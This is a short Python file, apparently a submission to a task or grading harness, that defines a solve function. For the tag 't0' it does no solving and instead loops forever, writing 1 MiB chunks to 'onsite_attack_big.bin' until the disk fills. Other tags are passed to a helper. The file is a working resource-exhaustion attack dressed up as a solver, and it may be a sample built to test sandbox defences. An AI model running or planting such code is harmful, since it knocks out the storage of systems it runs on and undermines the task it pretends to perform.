import support as kit


def solve(tag, *args):
    if tag == "t0":
        chunk = b"x" * (1 << 20)
        with open("onsite_attack_big.bin", "wb") as handle:
            while True:
                handle.write(chunk)
                handle.flush()
    return kit.miss(tag)
